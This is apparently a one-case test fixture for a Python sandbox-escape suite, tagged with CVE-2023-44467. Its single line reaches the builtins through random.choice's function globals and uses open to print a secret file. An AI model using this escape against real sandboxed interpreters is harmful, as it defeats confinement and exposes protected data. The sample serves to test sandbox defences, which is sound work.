"""Reach the builtins from a function's globals.

family: classes
canary: secret
stops: full, container
root: no
related: CVE-2023-44467
"""

import random

print(random.choice.__func__.__globals__["__builtins__"]["open"](SECRET_FILE).read())
